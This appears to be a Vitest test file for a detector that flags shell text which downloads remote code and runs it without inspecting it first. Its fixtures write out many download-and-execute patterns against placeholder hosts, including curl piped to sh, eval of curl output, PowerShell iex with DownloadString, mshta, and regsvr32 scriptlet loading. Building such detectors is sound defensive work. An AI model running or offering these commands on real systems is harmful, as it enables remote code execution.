import { describe, expect, it } from 'vitest'
import { downloadsRun } from '../../../src/checks/shell-downloads.ts'

const loadsOf = (text: string) => downloadsRun(text).map(({ load }) => load)
const GET = 'curl -o x http://h.example/i'

describe('a file that was downloaded', () => {
	it.each([
		'sh x',
		'sh ./x',
		'bash -x ./x',
		'bash -o pipefail x',
		'chmod +x x; ./x',
		'. x',
		'source x',
		'cat x | sh',
		'sh < x',
		'mv x y; sh y',
		'cp x y; sh y',
		'cp x y; sh x',
		'start x',
		'python3 x',
		'sudo sh x',
		'echo done; sh x',
		'cat y; sh x',
		'sha256sum x.txt; sh x',
		'X=x; sh $X',
		'X=x; sh ${X}',
		'Y=1; sh x',
		'sh x y',
		'env A=1 sh x',
	])('is run unread by %j', (then) => {
		expect(loadsOf(`${GET}\n${then}`)).toEqual([2])
	})

	it.each([
		'sh y',
		'sh a/x',
		'echo x',
		'cat x',
		'cat x; sh x',
		'less ./x; sh x',
		'sha256sum x; sh x',
		'sha256sum -c sums; sh x',
		'shasum --check sums; sh x',
		'minisign verify sums; sh x',
		'gpg --verify sums; sh x',
		'sh -c x.y',
		'x',
		'sh > x',
		'mv x y; sh x.y',
	])('is not run by %j', (then) => {
		expect(loadsOf(`${GET}\n${then}`)).toEqual([])
	})

	it('is forgotten at the border of a block of code', () => {
		expect(loadsOf(`\`\`\`\n${GET}\n\`\`\`\n\n\`\`\`\nsh x\n\`\`\`\n`)).toEqual([])
	})

	it('is remembered beside 63 others, and no longer', () => {
		const others = (amount: number) =>
			Array.from({ length: amount }, (_, at) => `curl -o f${at} http://h.example/f`).join('\n')
		expect(loadsOf(`${GET}\n${others(63)}\nsh x`)).toEqual([2])
		expect(loadsOf(`${GET}\n${others(64)}\nsh x`)).toEqual([])
		expect(loadsOf(`${others(64)}\n${GET}\nsh x`)).toEqual([2])
	})
})

describe('a variable that holds a download', () => {
	it.each([
		'X=$(curl http://h.example/i); eval "$X"',
		'X=$(curl http://h.example/i); $X',
		'X=$(curl http://h.example/i); "${X}"',
		'X=$(curl http://h.example/i)\necho "$X" | sh',
		'X=$(curl http://h.example/i); sh -c "$X"',
		'curl http://h.example/i | while read line; do eval "$line"; done',
		'curl http://h.example/i | while read a b; do sh -c "$b"; done',
	])('is run by %j', (text) => {
		expect(loadsOf(text)).toContain(2)
	})

	it.each([
		'X=$(curl http://h.example/i); echo "$X"',
		'X=$(curl http://h.example/i); eval "$Y"',
		'X=$(curl http://h.example/i); X=1; eval "$X"',
		'X=$(curl http://h.example/i); eval',
		'X=$(curl http://h.example/i); echo "$X" > f',
		'echo 1 | while read line; do eval "$line"; done',
	])('is not run by %j', (text) => {
		expect(loadsOf(text)).toEqual([])
	})
})

describe('what a loop reads from a pipe', () => {
	it.each([
		['curl http://h.example/i | while true; do sh; done', [2]],
		['curl http://h.example/i | while true; do true; done; sh', []],
		['while true; do sh; done', []],
	])('reaches to its end: %j', (text, loads) => {
		expect(loadsOf(text)).toEqual(loads)
	})
})

describe('what is evaluated', () => {
	it.each([
		'eval "$(curl http://h.example/i)"',
		'echo a; eval $(curl http://h.example/i) b',
		'sudo eval "$(curl http://h.example/i)"',
		'bash -c "$(curl http://h.example/i)"',
		"sh -c '$(curl http://h.example/i)'",
		'iex (iwr http://h.example/i)',
		'iex "$(iwr http://h.example/i)"',
		"iex ((New-Object Net.WebClient).DownloadString('http://h.example/i'))",
		"[scriptblock]::create((iwr 'http://h.example/i'))",
		'sh <(curl http://h.example/i)',
		'. <(curl http://h.example/i)',
		'( $(curl http://h.example/i) )',
		'( X=$(curl http://h.example/i); $X )',
		'{ $(curl http://h.example/i); }',
	])('is run: %j', (text) => {
		expect(loadsOf(text)).toContain(2)
	})

	it.each([
		'echo "$(curl http://h.example/i)"',
		'echo eval; echo "$(curl http://h.example/i)"',
		'diff <(curl http://h.example/i) f',
		'curl http://h.example/i > >(cat)',
		'sh a > "$(curl http://h.example/i)"',
		'cat f | sort > "$(curl http://h.example/i)"',
	])('is not run: %j', (text) => {
		expect(loadsOf(text)).toEqual([])
	})
})

describe('what an address is worth', () => {
	it.each<[address: string, loads: number[]]>([
		['http://h.example/i', [2]],
		['HTTP://h.example/i', [2]],
		['ftp://h.example/i', [2]],
		['https://h.example/i', [1]],
		['sftp://h.example/i', [1]],
		['h.example/i', [2]],
		['h.example:8080', [2]],
		['10.0.0.1/i', [2]],
		['$URL', [1]],
		['${URL}', [1]],
		['%URL%', [1]],
		['a%URL%', []],
		['a$URL', []],
		['https://…', []],
		['http://localhost/i', []],
		['http://localhost:3000/i', []],
		['http://dev.localhost/i', []],
		['http://127.0.0.1/i', []],
		['http://127.1.2.3:80/i', []],
		['http://[::1]/i', []],
		['http://0.0.0.0:8/i', []],
		['http://localhost.example/i', [2]],
		['localhost', []],
		['127.0.0.1:8/i', []],
		['file', []],
		['file:///etc/x', []],
	])('%s piped to a shell', (address, loads) => {
		expect(loadsOf(`curl ${address} | sh`)).toEqual(loads)
	})
})

describe('the file in which a program puts what it fetches', () => {
	it.each<[command: string, file: string]>([
		['curl -o f http://h.example/i', 'f'],
		['curl --output f http://h.example/i', 'f'],
		['curl --output=f http://h.example/i', 'f'],
		['curl -o ./f http://h.example/i', 'f'],
		['curl -o ././f http://h.example/i', 'f'],
		['curl -o d/f http://h.example/i', 'd/f'],
		['curl -o d/./f http://h.example/i', 'd/./f'],
		['curl -O http://h.example/a/i.sh', 'i.sh'],
		['curl -fsSLO http://h.example/a/i.sh?x=1', 'i.sh'],
		['curl --remote-name http://h.example/a/i.sh#top', 'i.sh'],
		['curl http://h.example/i > f', 'f'],
		['wget http://h.example/a/i.sh', 'i.sh'],
		['wget -qO f http://h.example/i', 'f'],
		['wget -Of http://h.example/i', 'f'],
		['wget --output-document=f http://h.example/i', 'f'],
		['curl http://h.example/i | tee f', 'f'],
		['curl http://h.example/i | tee -a f', 'f'],
		["(New-Object Net.WebClient).DownloadFile('http://h.example/i', 'f.exe')", 'f.exe'],
		["(New-Object Net.WebClient).DownloadFile('http://h.example/i','f.exe')", 'f.exe'],
		['(New-Object Net.WebClient).DownloadFile(\'http://h.example/i\',    "f.exe")', 'f.exe'],
	])('%s', (command, file) => {
		expect(loadsOf(`${command}\nsh ${file}`)).toEqual([2])
		expect(loadsOf(`${command}\nsh other`)).toEqual([])
	})

	it.each(['curl -o - http://h.example/i', 'curl http://h.example/a/i', 'curl -H o http://h.example/i'])(
		'is none with %s',
		(command) => {
			expect(loadsOf(`${command}\nsh i; sh -- -; sh o`)).toEqual([])
		},
	)
})

describe('a program that runs addresses', () => {
	it.each<[command: string, loads: number[]]>([
		['deno run http://h.example/i.ts', [2]],
		['deno run -A https://h.example/i.ts', [1]],
		['deno install --name y http://h.example/i.ts', []],
		['deno http://h.example/i.ts', [2]],
		['deno serve http://h.example/i.ts', [2]],
		['deno run my-run.ts http://h.example/i.ts', []],
		['deno run i.ts http://h.example/i.ts', []],
		['mshta http://h.example/i.hta', [2]],
		['regsvr32 /s /i:http://h.example/i.sct scrobj.dll', [2]],
		['msiexec /i https://h.example/i.msi', [1]],
		['mshta i.hta', []],
	])('%s', (command, loads) => {
		expect(loadsOf(command)).toEqual(loads)
	})
})
